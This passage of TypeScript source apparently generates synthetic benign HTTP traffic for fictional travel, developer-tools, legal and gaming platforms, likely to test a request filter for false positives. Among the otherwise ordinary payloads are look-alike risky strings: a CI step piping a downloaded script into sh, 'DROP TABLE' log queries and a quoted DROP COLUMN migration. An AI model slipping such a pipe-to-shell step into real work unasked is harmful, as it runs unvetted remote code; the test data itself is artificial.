    ['ko', '<p>시의회는 화요일 새로운 주차 정책을 7대 2로 통과시켰다.</p>'],
  ];
  for (const [lang, html] of i18n)
    sendJson('i18n', CMS, BROWSERS, 'PUT', `/api/articles/art_${alnum(10)}/translations/${lang}`, {
      lang,
      body: html,
      headline: html.replace(/<[^>]+>/g, '').slice(0, 30),
    });
}

// ---------------------------------------------------------------------------------------------------------
// Domain 5: travel booking (Wayfare)
// ---------------------------------------------------------------------------------------------------------

function travelClean(): void {
  const segs = [
    ['LHR', 'JFK'],
    ['FRA', 'NRT'],
    ['CDG', 'DXB'],
    ['SFO', 'HNL'],
    ['GRU', 'LIS'],
    ['SYD', 'SIN'],
  ];
  for (let i = 0; i < 5; i++) {
    const [from, to] = pick(segs) as [string, string];
    sendJson('rest-write', TRV, [...BROWSERS, ...APPS], 'POST', '/v3/itineraries', {
      travelers: [
        {
          type: 'adult',
          first_name: pick(['Emma', 'Raj', 'Lucía', 'Kenji', 'Fatima']),
          last_name: pick(["O'Hara", 'Singh', 'García-López', 'Tanaka', 'Al-Sayed']),
          dob: '1988-04-12',
        },
      ],
      segments: [{ from, to, date: day(), cabin: pick(['economy', 'premium_economy', 'business']) }],
      hotel:
        rand() < 0.5
          ? { property_id: `htl_${alnum(8)}`, check_in: day(), nights: int(1, 9), rooms: 1 }
          : null,
      promo_code: pick(['', 'WINTER26', 'FAMILY10']),
    });
  }

  const requests = [
    'Travelling with a 2-year-old — can we get a bassinet seat or at least seats together? Row 12 or anything near the front.',
    'Please note: severe peanut allergy. I will bring an EpiPen; can the crew avoid serving nuts in our row?',
    "Late check-in, we land at 23:40 and won't be at the hotel before 1am. Please DON'T cancel the room!",
    'Honeymoon 🎉 — any chance of a room with a view? Happy to pay the difference.',
    'Wheelchair assistance needed from gate to taxi (WCHR). My mother can walk short distances only.',
    'Quiet room away from the elevator, high floor if possible. Twin beds, not a double.',
    'We need a crib and a mini fridge for medication (insulin). Thanks so much!',
    "Could you select a vegetarian (VGML) meal for both passengers? The app won't let me update it.",
    'Arriving by train at 14:05; is early check-in possible or can we at least drop our bags?',
    'Pet-friendly room for a small dog (7 kg). Is there a fee & where can we walk her?',
  ];
  for (const r of requests)
    sendJson(
      'prose',
      TRV,
      [...BROWSERS, ...APPS],
      'POST',
      `/v3/bookings/WF${alnum(6).toUpperCase()}/special-requests`,
      { text: r, category: pick(['accessibility', 'room', 'meal', 'other']) },
    );

  const reviews: [string, string, number][] = [
    [
      'en',
      "Great location, terrible coffee. Staff upgraded us for free because it was my wife's birthday — 10/10 for that.",
      4,
    ],
    [
      'de',
      'Sauberes Zimmer, super Frühstück. Die Klimaanlage war allerdings laut & ließ sich nicht ausschalten.',
      3,
    ],
    [
      'fr',
      'Séjour parfait ! Le personnel était aux petits soins, et la vue sur la mer… magnifique. On reviendra.',
      5,
    ],
    [
      'es',
      'El hotel está bien, pero el wifi no funcionaba en la habitación 304. Nos cambiaron sin problema.',
      4,
    ],
    ['ja', '駅から徒歩5分で便利でした。部屋は少し狭いですが清潔です。朝食のビュッフェが最高！', 4],
    ['zh', '位置很好，离地铁站很近。但是隔音不太好，晚上有点吵。', 3],
    ['ar', 'الفندق نظيف والموظفون متعاونون جداً، لكن الإفطار كان محدوداً.', 4],
    ['ru', 'Отличный отель! Номер чистый, персонал вежливый. Минус — парковка платная (25 €/сутки).', 4],
    ['pt', 'Adoramos! Piscina ótima, café da manhã variado. Só o check-in demorou uns 40 min.', 5],
    ['tr', 'Konum harika ama oda beklediğimizden küçüktü. Personel çok ilgiliydi.', 3],
    ['th', 'ห้องสะอาด พนักงานยิ้มแย้ม อาหารเช้าอร่อยมาก แนะนำค่ะ 👍', 5],
    ['vi', 'Khách sạn sạch sẽ, nhân viên thân thiện. Bữa sáng hơi ít món.', 4],
  ];
  for (const [lang, text, rating] of reviews) {
    sendJson(
      lang === 'en' ? 'prose' : 'i18n',
      TRV,
      [...BROWSERS, ...APPS],
      'POST',
      `/v3/hotels/htl_${alnum(8)}/reviews`,
      {
        lang,
        rating,
        title: text.split(/[.!。！،,]/)[0],
        text,
        stay_month: '2026-10',
        trip_type: pick(['couple', 'family', 'business', 'solo']),
      },
    );
  }

  sendGet(
    'search',
    TRV,
    BROWSERS,
    `/v3/search/flights?${qs({ from: 'LHR', to: 'JFK', depart: '2026-12-20', return: '2027-01-03', adults: 2, children: 1, cabin: 'economy' })}`,
  );
  sendGet(
    'search',
    TRV,
    APPS,
    `/v3/search/hotels?${qsc({ q: 'Kyoto near "Gion" -hostel', checkin: '2026-04-02', checkout: '2026-04-06', guests: 2 })}`,
  );
  sendGet(
    'search',
    TRV,
    BROWSERS,
    `/v3/search/hotels?${qs({ q: 'São Paulo Jardins pool OR rooftop', amenities: 'wifi,parking', sort: 'price_asc' })}`,
  );
  sendGet('search', TRV, BROWSERS, `/v3/search/places?${qs({ q: 'Zürich HB', lang: 'de' })}`);
  sendGet(
    'search',
    TRV,
    BROWSERS,
    `/v3/reviews?${qs({ q: 'breakfast AND (noise OR loud)', rating: '1..3', hotel: `htl_${alnum(8)}` })}`,
  );

  sendJson(
    'merge-patch',
    TRV,
    APPS,
    'PATCH',
    `/v3/bookings/WF${alnum(6).toUpperCase()}/travelers/1`,
    { passport: { number: 'X1234567', expiry: '2031-05-30', country: 'DE' }, middle_name: null },
    'application/merge-patch+json',
  );
  sendJson(
    'json-patch',
    TRV,
    BROWSERS,
    'PATCH',
    `/v3/itineraries/itn_${alnum(10)}`,
    [
      { op: 'replace', path: '/segments/1/date', value: '2027-01-04' },
      { op: 'remove', path: '/hotel' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    TRV,
    ['node'],
    'POST',
    '/v3/loyalty/claims',
    {
      data: {
        type: 'claims',
        attributes: {
          ticket_number: '125-2412345678',
          flight: 'BA117',
          date: '2026-10-14',
          reason: 'Missing miles',
        },
      },
    },
    'application/vnd.api+json',
  );
  sendDelete(TRV, APPS, `/v3/bookings/WF${alnum(6).toUpperCase()}?reason=change_of_plans`);
  sendDelete(TRV, BROWSERS, `/v3/me/saved-searches/${int(100, 999)}`);
  sendGraphql(
    TRV,
    APPS,
    'TripTimeline',
    'query TripTimeline($id: ID!) {\n  trip(id: $id) { segments { __typename ... on Flight { number departsAt gate } ... on Stay { hotel { name } checkIn } } }\n}',
    { id: `itn_${alnum(10)}` },
  );
  sendGraphql(
    TRV,
    BROWSERS,
    'AddNote',
    'mutation AddNote($trip: ID!, $text: String!) { addTripNote(trip: $trip, text: $text) { id } }',
    { trip: `itn_${alnum(10)}`, text: 'Remember: the ferry from Piraeus leaves at 07:30, NOT 7:30pm!' },
  );

  sendForm('form', TRV, BROWSERS, '/checkout/payment', {
    booking: `WF${alnum(6).toUpperCase()}`,
    cardholder: "J. O'Neill-Smith",
    billing_zip: 'SW1A 1AA',
    save_card: 'false',
    return_url: 'https://www.wayfare.travel/trips?tab=upcoming&status=confirmed',
  });
  sendForm('webhook', TRV, ['python'], '/hooks/twilio/status', {
    MessageSid: `SM${hex(32)}`,
    MessageStatus: 'delivered',
    To: '+14155550100',
    ErrorCode: '',
    AccountSid: `AC${hex(32)}`,
  });
  sendMultipart(TRV, APPS, '/v3/bookings/documents', [
    {
      name: 'document',
      filename: 'visa-approval.pdf',
      type: 'application/pdf',
      value: pdfText(['Electronic Travel Authorisation', 'Status: APPROVED', 'Valid until 2028-11-01']),
    },
    { name: 'booking', value: `WF${alnum(6).toUpperCase()}` },
  ]);
  sendMultipart(TRV, BROWSERS, `/v3/hotels/htl_${alnum(8)}/reviews/photos`, [
    { name: 'photo', filename: 'pool.png', type: 'image/png', value: pngBytes() },
    { name: 'caption', value: 'Rooftop pool at sunset 🌅' },
  ]);
  sendNdjson(TRV, ['go'], '/v3/partner/availability', [
    { property: 'htl_8812', date: '2026-12-24', room: 'DBL', available: 3, rate: 189.0, currency: 'EUR' },
    { property: 'htl_8812', date: '2026-12-25', room: 'DBL', available: 0, rate: null, currency: 'EUR' },
    { property: 'htl_8812', date: '2026-12-26', room: 'STE', available: 1, rate: 420.0, currency: 'EUR' },
  ]);
  sendJson('i18n', TRV, APPS, 'POST', '/v3/support/chat', {
    message: 'הטיסה שלי בוטלה, אני צריך עזרה דחוף 🙏',
    locale: 'he-IL',
  });
  sendJson('i18n', TRV, APPS, 'POST', '/v3/support/chat', {
    message: 'मेरी बुकिंग की पुष्टि अभी तक नहीं आई है, कृपया जाँच करें।',
    locale: 'hi-IN',
  });
}

// ---------------------------------------------------------------------------------------------------------
// Domain 6: developer-tools SaaS (Tracewell: errors, logs, feature flags, API keys)
// ---------------------------------------------------------------------------------------------------------

function devClean(): void {
  const events: {
    type: string;
    value: string;
    frames: { filename: string; function: string; lineno: number; context_line: string }[];
  }[] = [
    {
      type: 'TypeError',
      value: "Cannot read properties of undefined (reading 'map')",
      frames: [
        {
          filename: 'webpack:///src/components/InvoiceList.tsx',
          function: 'InvoiceList',
          lineno: 42,
          context_line: '  return invoices.data.map((inv) => <Row key={inv.id} {...inv} />);',
        },
        {
          filename: 'webpack:///node_modules/react-dom/cjs/react-dom.production.min.js',
          function: 'renderWithHooks',
          lineno: 1,
          context_line: '',
        },
      ],
    },
    {
      type: 'psycopg2.errors.UndefinedColumn',
      value:
        'column "created_at" does not exist\nLINE 1: SELECT id, email FROM users WHERE created_at > now() - interval...',
      frames: [
        {
          filename: 'app/repositories/users.py',
          function: 'recent_signups',
          lineno: 88,
          context_line:
            '        cur.execute("SELECT id, email FROM users WHERE created_at > now() - interval %s", (window,))',
        },
        {
          filename: 'app/api/admin.py',
          function: 'signup_report',
          lineno: 31,
          context_line: '    rows = repo.recent_signups("7 days")',
        },
      ],
    },
    {
      type: 'java.lang.NullPointerException',
      value: 'Cannot invoke "String.trim()" because "header" is null',
      frames: [
        {
          filename: 'AuthFilter.java',
          function: 'com.acme.gateway.AuthFilter.doFilter',
          lineno: 57,
          context_line: '        String token = header.trim().substring(7);',
        },
        {
          filename: 'ApplicationFilterChain.java',
          function: 'org.apache.catalina.core.ApplicationFilterChain.internalDoFilter',
          lineno: 178,
          context_line: '',
        },
      ],
    },
    {
      type: 'Errno::ENOENT',
      value: 'No such file or directory @ rb_sysopen - /app/tmp/exports/report-2026-11.csv',
      frames: [
        {
          filename: 'app/jobs/export_job.rb',
          function: 'perform',
          lineno: 19,
          context_line: "    File.open(path, 'w') { |f| f.write(csv) }",
        },
      ],
    },
    {
      type: 'panic',
      value: 'runtime error: index out of range [3] with length 3',
      frames: [
        {
          filename: 'internal/router/match.go',
          function: 'router.(*Tree).Match',
          lineno: 211,
          context_line: '\tseg := parts[i+1]',
        },
      ],
    },
  ];
  for (const e of events) {
    sendJson('code', DEV, ['node', 'python', 'go'], 'POST', `/api/${int(10, 99)}/store/`, {
      event_id: hex(32),
      timestamp: stamp(),
      platform: pick(['javascript', 'python', 'java', 'ruby', 'go']),
      level: 'error',
      environment: pick(['production', 'staging']),
      release: `web@${int(1, 9)}.${int(0, 40)}.${int(0, 9)}`,
      exception: { values: [{ type: e.type, value: e.value, stacktrace: { frames: e.frames } }] },
      breadcrumbs: [
        {
          category: 'http',
          data: { method: 'GET', url: '/api/invoices?status=open&page=2', status_code: 200 },
        },
      ],
      tags: { browser: 'Chrome 142', os: 'Windows 11' },
    });
    const ev = editLast();
    ev.headers['x-sentry-auth'] =
      `Sentry sentry_version=7, sentry_client=sentry.javascript.browser/9.12.0, sentry_key=${hex(32)}`;
  }

  sendNdjson(DEV, ['go'], '/api/v1/logs/ingest', [
    { ts: stamp(), level: 'info', service: 'api', msg: 'GET /healthz 200 1.2ms' },
    {
      ts: stamp(),
      level: 'warn',
      service: 'worker',
      msg: 'slow query (2301 ms): SELECT * FROM orders WHERE status = $1 ORDER BY created_at DESC LIMIT 100',
    },
    {
      ts: stamp(),
      level: 'error',
      service: 'api',
      msg: 'upstream connect error or disconnect/reset before headers. reset reason: connection termination',
    },
    {
      ts: stamp(),
      level: 'info',
      service: 'cron',
      msg: 'ran: /usr/local/bin/backup.sh --target s3://acme-backups/db && echo done',
    },
    {
      ts: stamp(),
      level: 'debug',
      service: 'auth',
      msg: 'token refresh for user_id=8812 (scope="read write")',
    },
  ]);
  sendNdjson(DEV, ['go'], '/api/v1/logs/ingest', [
    {
      ts: stamp(),
      level: 'error',
      service: 'billing',
      msg: 'Traceback (most recent call last):\n  File "/srv/billing/tasks.py", line 77, in charge\n    raise PaymentDeclined(code)\nPaymentDeclined: card_declined',
    },
    {
      ts: stamp(),
      level: 'info',
      service: 'nginx',
      msg: '10.0.3.17 - - [12/Nov/2026:10:01:44 +0000] "POST /api/v2/login HTTP/1.1" 302 0 "-" "Mozilla/5.0"',
    },
  ]);

  const logQueries = [
    'service:api AND level:error AND NOT msg:"healthz"',
    '"connection refused" OR "ECONNRESET"',
    'status:>=500 path:/api/v2/*',
    'msg:"DROP TABLE" OR msg:"TRUNCATE"',
    'user_id:8812 -level:debug',
    'host:web-0? AND "out of memory"',
    'trace_id:4bf92f3577b34da6a3ce929d0e0e4736',
  ];
  for (const q of logQueries)
    sendGet(
      'search',
      DEV,
      BROWSERS,
      `/api/v1/logs/search?${qs({ q, from: 'now-24h', to: 'now', limit: 200 })}`,
    );
  sendJson('search', DEV, ['python'], 'POST', '/api/v1/logs/query', {
    query: 'fields @timestamp, @message | filter @message like /timeout/ | sort @timestamp desc | limit 50',
    range: { from: 'now-1h', to: 'now' },
  });

  const flags = [
    {
      key: 'new-checkout',
      rules: [
        { attribute: 'country', operator: 'in', values: ['DE', 'AT', 'CH'] },
        { attribute: 'email', operator: 'ends_with', values: ['@acme.com'] },
      ],
      rollout: 25,
    },
    {
      key: 'dark-mode-v2',
      rules: [{ attribute: 'plan', operator: 'not_in', values: ['free'] }],
      rollout: 100,
    },
    {
      key: 'search-rewrite',
      rules: [
        { attribute: 'user.id', operator: 'matches', values: ['^usr_(1|2)'] },
        { attribute: 'beta', operator: 'eq', values: [true] },
      ],
      rollout: 10,
    },
    { key: 'kill-switch-legacy-export', rules: [], rollout: 0 },
  ];
  for (const f of flags)
    sendJson('rest-write', DEV, [...BROWSERS, 'curl'], 'PUT', `/api/v1/projects/web/flags/${f.key}`, {
      ...f,
      description: pick(['Gradual rollout, see RFC-112', 'Turn OFF if error rate > 2%', 'Owner: @growth']),
      enabled: true,
    });
  sendJson(
    'json-patch',
    DEV,
    ['node', 'curl'],
    'PATCH',
    '/api/v1/projects/web/flags/new-checkout',
    [
      { op: 'replace', path: '/rollout', value: 50 },
      { op: 'add', path: '/rules/-', value: { attribute: 'segment', operator: 'in', values: ['internal'] } },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'merge-patch',
    DEV,
    BROWSERS,
    'PATCH',
    '/api/v1/projects/web/flags/dark-mode-v2',
    { enabled: false, description: 'Disabled: contrast bug on Safari 26 (#4412)' },
    'application/merge-patch+json',
  );

  sendJson('rest-write', DEV, BROWSERS, 'POST', '/api/v1/keys', {
    name: 'ci-deploy (GitHub Actions)',
    scopes: ['events:write', 'releases:write'],
    expires_in_days: 90,
  });
  sendJson('rest-write', DEV, BROWSERS, 'POST', '/api/v1/keys', {
    name: 'grafana read-only',
    scopes: ['logs:read'],
    allowed_ips: ['203.0.113.0/24', '2001:db8::/32'],
  });
  sendDelete(DEV, BROWSERS, `/api/v1/keys/key_${alnum(16)}`);
  sendDelete(DEV, ['curl'], `/api/v1/projects/web/releases/web%40${int(1, 9)}.${int(0, 40)}.0`);
  sendDelete(DEV, BROWSERS, `/api/v1/issues/${int(100000, 999999)}?reason=duplicate`);

  const comments = [
    'Repro: run `npm ci && npm run build` on Node 22, then `curl -s localhost:3000/api/health`. Crashes with EADDRINUSE if the old process is still alive (kill -9 it first).',
    'Root cause is the migration — it does `ALTER TABLE users DROP COLUMN created_at;` before the new code is deployed. We should do expand/contract instead.',
    'Fixed in 3.14.2. The regex `/(a+)+$/` was catastrophic on long inputs; replaced with a simple loop.',
    'Not a bug in our SDK: your app calls eval() on the response. Use JSON.parse and this goes away.',
    'Looks like the same as #4410; the user-agent is "curl/7.68.0" and they\'re hitting /wp-admin/ on our API — just scanner noise, resolving.',
    'Workaround until the fix ships: set `SENTRY_TRACES_SAMPLE_RATE=0.1` and restart; memory went from 2.1GB → 600MB.',
  ];
  for (const c of comments)
    sendJson('code', DEV, BROWSERS, 'POST', `/api/v1/issues/${int(100000, 999999)}/comments`, { text: c });

  const cfgs = [
    'server {\n    listen 443 ssl;\n    server_name api.acme.io;\n    location /api/ {\n        proxy_pass http://127.0.0.1:8080;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n}',
    'FROM node:24-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev && rm -rf /root/.npm\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
    'name: deploy\non: { push: { branches: [main] } }\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -sSfL https://tracewell.dev/cli/install.sh | sh\n      - run: tracewell releases new "$GITHUB_SHA" --finalize',
  ];
  for (const c of cfgs)
    sendJson('code', DEV, BROWSERS, 'POST', '/api/v1/snippets', {
      title: pick(['nginx proxy', 'Dockerfile', 'CI workflow']),
      body: c,
      visibility: 'team',
    });

  sendJson(
    'jsonapi',
    DEV,
    ['node'],
    'POST',
    '/api/v1/alert-rules',
    {
      data: {
        type: 'alert-rules',
        attributes: {
          name: 'Error spike',
          query: 'level:error service:api',
          threshold: 50,
          window: '5m',
          notify: ['#oncall'],
        },
      },
    },
    'application/vnd.api+json',
  );
  sendGraphql(
    DEV,
    BROWSERS,
    'IssueList',
    'query IssueList($project: String!, $query: String) {\n  issues(project: $project, query: $query, first: 25) { nodes { id title count lastSeen } }\n}',
    { project: 'web', query: 'is:unresolved assigned:me TypeError' },
  );
  sendGraphqlGet(
    DEV,
    BROWSERS,
    'FlagStatus',
    'query FlagStatus($key: String!) { flag(key: $key) { enabled rollout } }',
    { key: 'new-checkout' },
  );

  sendJson('webhook', DEV, ['go'], 'POST', '/hooks/github', {
    action: 'opened',
    number: int(10, 900),
    pull_request: {
      title: 'Fix: escape < and > in log viewer; drop jQuery',
      body: '## Summary\n- Escapes HTML in log lines (was rendering `<script>` tags from user logs as text? no — as HTML!)\n- Removes jQuery 1.x\n\nCloses #231',
      user: { login: 'octo-dev' },
    },
    repository: { full_name: 'tracewell/app' },
  });
  const pr = editLast();
  pr.headers['x-github-event'] = 'pull_request';
  pr.headers['x-github-delivery'] = uuid();
  pr.headers['x-hub-signature-256'] = `sha256=${hex(64)}`;
  pr.headers['user-agent'] = `GitHub-Hookshot/${hex(7)}`;
  delete pr.headers['authorization'];
  sendForm('webhook', DEV, ['python'], '/hooks/slack/commands', {
    token: alnum(24),
    team_id: `T${alnum(8).toUpperCase()}`,
    channel_name: 'oncall',
    user_name: 'maria',
    command: '/tracewell',
    text: 'resolve 48211 --reason "fixed in web@3.14.2"',
    response_url: 'https://hooks.slack.com/commands/T0001/1234/abcd',
  });
  sendForm('form', DEV, BROWSERS, '/login/sso', {
    email: 'dev@acme.io',
    relay_state: '/org/acme/issues?query=is%3Aunresolved',
  });
  sendMultipart(DEV, ['curl'], '/api/v1/releases/web@3.14.2/files', [
    {
      name: 'file',
      filename: 'main.js.map',
      type: 'application/json',
      value: JSON.stringify({
        version: 3,
        file: 'main.js',
        sources: ['webpack:///src/index.ts'],
        names: ['render', 'fetch'],
        mappings: 'AAAA,SAASA',
      }),
    },
    { name: 'name', value: '~/static/js/main.js.map' },
  ]);
  sendMultipart(DEV, ['curl'], '/api/v1/projects/web/dsyms', [
    {
      name: 'file',
      filename: 'crash.txt',
      type: 'text/plain',
      value:
        'Exception Type:  EXC_BAD_ACCESS (SIGSEGV)\nThread 0 Crashed:\n0   libsystem_kernel.dylib  0x00000001a2b3c4d5 __pthread_kill + 8\n1   MyApp                   0x0000000100a1b2c3 -[AppDelegate application:didFinishLaunchingWithOptions:] + 120',
    },
  ]);
  sendJson('i18n', DEV, BROWSERS, 'POST', `/api/v1/issues/${int(100000, 999999)}/comments`, {
    text: '再現しました。`npm run build` の後に「ENOENT: no such file or directory」が出ます 😢',
  });
  sendJson('i18n', DEV, BROWSERS, 'POST', `/api/v1/issues/${int(100000, 999999)}/comments`, {
    text: 'Ошибка воспроизводится только в Safari; в Chrome всё ок.',
  });
}

// ---------------------------------------------------------------------------------------------------------
// Domain 7: legal / contracts (Clausebook)
// ---------------------------------------------------------------------------------------------------------

function lawClean(): void {
  const clauses: [string, string][] = [
    [
      'Limitation of Liability',
      "IN NO EVENT SHALL EITHER PARTY BE LIABLE FOR ANY INDIRECT, INCIDENTAL, SPECIAL OR CONSEQUENTIAL DAMAGES, INCLUDING LOSS OF PROFITS, EVEN IF ADVISED OF THE POSSIBILITY THEREOF. EACH PARTY'S AGGREGATE LIABILITY SHALL NOT EXCEED THE FEES PAID IN THE TWELVE (12) MONTHS PRECEDING THE CLAIM.",
    ],
    [
      'Termination for Convenience',
      "Either party may terminate this Agreement upon thirty (30) days' written notice to the other party. Upon termination, Customer shall pay all fees accrued through the effective date of termination.",
    ],
    [
      'Data Deletion',
      "Within ninety (90) days after termination, Provider shall delete or return all Customer Data, at Customer's election, and certify such deletion in writing; provided that Provider may retain copies (i) as required by law or (ii) in routine backups until overwritten.",
    ],
    [
      'Governing Law',
      'This Agreement shall be governed by the laws of the State of Delaware, without regard to its conflict-of-laws rules. The parties submit to the exclusive jurisdiction of the courts located in Wilmington, Delaware.',
    ],
    [
      'Assignment',
      'Neither party may assign this Agreement without the other party\'s prior written consent, except to a successor in connection with a merger, acquisition or sale of all or substantially all of its assets ("Change of Control").',
    ],
    [
      'Service Levels',
      'Provider shall use commercially reasonable efforts to make the Service available 99.9% of the time, measured monthly, excluding Scheduled Maintenance (Saturdays 02:00–04:00 UTC) and events of Force Majeure.',
    ],
  ];
  for (const [heading, text] of clauses) {
    sendJson('rest-write', LAW, BROWSERS, 'POST', `/api/contracts/ctr_${alnum(10)}/clauses`, {
      heading,
      text,
      position: int(1, 30),
      library_ref: rand() < 0.5 ? `lib_${alnum(6)}` : null,
    });
  }

  const redlines = [
    {
      op: 'replace',
      before: 'thirty (30) days',
      after: 'sixty (60) days',
      comment: 'We need more runway — 30 days is not enough to migrate off the platform.',
    },
    {
      op: 'delete',
      before: ', EVEN IF ADVISED OF THE POSSIBILITY THEREOF',
      after: '',
      comment: "Strike this; it's boilerplate and our insurer objects to it.",
    },
    {
      op: 'insert',
      before: '',
      after:
        ' Notwithstanding the foregoing, the cap shall not apply to breaches of Section 9 (Confidentiality).',
      comment: 'Carve-out for confidentiality breaches — non-negotiable for us.',
    },
    {
      op: 'replace',
      before: 'commercially reasonable efforts',
      after: 'best efforts',
      comment: 'Counterparty will push back; fallback position: "reasonable efforts" + service credits.',
    },
    {
      op: 'replace',
      before: '"Change of Control"',
      after: '"Change of Control" (as defined in Exhibit C)',
      comment: 'Align with the definition in the MSA.',
    },
  ];
  for (const r of redlines)
    sendJson('rest-write', LAW, BROWSERS, 'POST', `/api/contracts/ctr_${alnum(10)}/redlines`, {
      ...r,
      clause_id: `cl_${alnum(8)}`,
      author: `usr_${alnum(8)}`,
    });

  const comments = [
    'Section 4.2 says "Customer shall not (a) reverse engineer, (b) decompile, or (c) select, copy or modify any part of the Software" — (c) is way too broad. Can we drop "select"?',
    "Their draft deletes our indemnity for IP claims entirely. That's a no-go; escalate to GC.",
    'The order of precedence clause (MSA > SOW > Order Form) conflicts with §12.3 where the Order Form controls. Which one wins?',
    'Per our call: they accept the 12-month cap but want "gross negligence OR wilful misconduct" excluded from it.',
    'Who\'s the admin on the signature workflow? DocuSign envelope is stuck at "Sent" for 5 days.',
    'Note: the "Union" in "European Union" here refers to the EU GDPR definitions, see Art. 4(1).',
    'Counterparty\'s email: "We can\'t execute until the DPA is updated; please update Annex II (TOMs) & resend."',
    'Typo in 7.1: "where as" → "whereas". Also the cross-ref to Section 14 should be Section 15 after renumbering.',
  ];
  for (const c of comments)
    sendJson('prose', LAW, BROWSERS, 'POST', `/api/contracts/ctr_${alnum(10)}/comments`, {
      body: c,
      anchor: { clause_id: `cl_${alnum(8)}`, start: int(0, 200), end: int(201, 400) },
      resolved: false,
    });

  sendJson('cms-html', LAW, BROWSERS, 'PUT', `/api/templates/tpl_${alnum(8)}`, {
    name: 'Mutual NDA (US)',
    body_html:
      '<h1>MUTUAL NON-DISCLOSURE AGREEMENT</h1><p>This Mutual Non-Disclosure Agreement (the "<strong>Agreement</strong>") is entered into as of <span class="field" data-field="effective_date">[Effective Date]</span> by and between <span class="field" data-field="party_a">[Party A]</span> and <span class="field" data-field="party_b">[Party B]</span>.</p><ol><li><p><strong>Confidential Information.</strong> "Confidential Information" means any information disclosed by either party &hellip;</p></li><li><p><strong>Exclusions.</strong> Confidential Information does not include information that (a) is or becomes public &hellip;</p></li></ol><p style="page-break-before: always;">IN WITNESS WHEREOF, the parties have executed this Agreement.</p>',
  });
  sendJson('cms-html', LAW, BROWSERS, 'PUT', `/api/contracts/ctr_${alnum(10)}/cover-note`, {
    html: "<p>Hi team,</p><p>Attached is v3 with our <ins>additions</ins> and <del>deletions</del>. Main open points:</p><ul><li>§8 cap (12 vs 24 months)</li><li>§11 audit rights &ndash; once per year, 30 days' notice</li></ul><p>Best,<br>Legal</p>",
  });

  const searches = [
    '"limitation of liability" AND (cap OR "aggregate liability")',
    'party:"Acme Corp" status:signed',
    'indemnif* NOT "mutual indemnification"',
    'governing_law:NY OR governing_law:DE',
    'expires:<2027-01-01 auto-renew',
  ];
  for (const q of searches)
    sendGet('search', LAW, BROWSERS, `/api/contracts?${qs({ q, sort: 'expires_at' })}`);

  sendJson(
    'merge-patch',
    LAW,
    BROWSERS,
    'PATCH',
    `/api/contracts/ctr_${alnum(10)}`,
    { status: 'in_negotiation', counterparty: { name: 'Smith & Wesson Holding Corp.' }, renewal: null },
    'application/merge-patch+json',
  );
  sendJson(
    'json-patch',
    LAW,
    BROWSERS,
    'PATCH',
    `/api/contracts/ctr_${alnum(10)}/clauses/order`,
    [
      { op: 'move', from: '/3', path: '/7' },
      { op: 'replace', path: '/7/heading', value: 'Limitation of Liability; Exclusions' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    LAW,
    ['python'],
    'POST',
    '/api/v1/signature-requests',
    {
      data: {
        type: 'signature-requests',
        attributes: {
          signers: [{ name: 'Dana Whitfield', email: 'dana@example.com', order: 1 }],
          message: 'Please sign at your earliest convenience.',
        },
        relationships: { contract: { data: { type: 'contracts', id: alnum(10) } } },
      },
    },
    'application/vnd.api+json',
  );
  sendDelete(LAW, BROWSERS, `/api/contracts/ctr_${alnum(10)}/comments/cmt_${alnum(8)}`);
  sendDelete(LAW, BROWSERS, `/api/contracts/ctr_${alnum(10)}/redlines/rl_${alnum(8)}`);
  sendGraphql(
    LAW,
    BROWSERS,
    'ContractObligations',
    'query ContractObligations($id: ID!) {\n  contract(id: $id) { obligations(dueBefore: "2027-01-01") { party description dueDate } }\n}',
    { id: `ctr_${alnum(10)}` },
  );
  sendGraphql(
    LAW,
    BROWSERS,
    'ResolveComment',
    'mutation ResolveComment($id: ID!, $reply: String) { resolveComment(id: $id, reply: $reply) { id resolved } }',
    { id: `cmt_${alnum(8)}`, reply: "Agreed — we'll delete (c) and keep (a) and (b)." },
  );
  sendForm('form', LAW, BROWSERS, '/intake', {
    matter_type: 'vendor_contract',
    requester: 'Ops',
    description:
      'New SaaS vendor; need DPA + MSA review by 12/15. Value ~$48k/yr; auto-renews unless cancelled 60 days before end of term.',
    urgency: 'normal',
  });
  sendMultipart(LAW, BROWSERS, '/api/contracts/upload', [
    {
      name: 'file',
      filename: 'MSA_Acme_v3 (redline).pdf',
      type: 'application/pdf',
      value: pdfText([
        'MASTER SERVICES AGREEMENT',
        '1. Definitions',
        '2. Services',
        '8. Limitation of Liability',
      ]),
    },
    { name: 'matter_id', value: `mat_${alnum(8)}` },
  ]);
  sendMultipart(LAW, BROWSERS, '/api/clauses/import', [
    {
      name: 'file',
      filename: 'clause-library.json',
      type: 'application/json',
      value: JSON.stringify([
        {
          heading: 'Force Majeure',
          text: 'Neither party shall be liable for delay caused by events beyond its reasonable control (e.g. fire, flood, war, strikes).',
        },
      ]),
    },
  ]);
  sendJson('webhook', LAW, ['node'], 'POST', '/hooks/docusign', {
    event: 'envelope-completed',
    apiVersion: 'v2.1',
    generatedDateTime: stamp(),
    data: {
      accountId: uuid(),
      envelopeId: uuid(),
      envelopeSummary: { status: 'completed', emailSubject: 'Please DocuSign: MSA_Acme_v3.pdf' },
    },
  });
  sendNdjson(LAW, ['python'], '/api/v1/obligations/bulk', [
    {
      contract: 'ctr_88a',
      party: 'Customer',
      text: 'Pay invoices within 30 days of receipt',
      due: 'monthly',
    },
    {
      contract: 'ctr_88a',
      party: 'Provider',
      text: 'Deliver SOC 2 Type II report upon request',
      due: 'annually',
    },
  ]);
  const i18n = [
    'Die Haftung ist auf Vorsatz und grobe Fahrlässigkeit beschränkt (§ 276 BGB).',
    '本契約に定めのない事項については、甲乙誠意をもって協議の上解決する。',
    'يخضع هذا العقد لقوانين دولة الإمارات العربية المتحدة.',
    'Le présent contrat est régi par le droit français ; tout litige relève du Tribunal de commerce de Paris.',
  ];
  for (const t of i18n)
    sendJson('i18n', LAW, BROWSERS, 'POST', `/api/contracts/ctr_${alnum(10)}/clauses`, {
      heading: '—',
      text: t,
      language: 'auto',
    });
}

// ---------------------------------------------------------------------------------------------------------
// Domain 8: gaming platform (Fragline)
// ---------------------------------------------------------------------------------------------------------

function gameClean(): void {
  const chats = [
    'gg ez 😎',
    'who tf picked sniper on this map lmao',
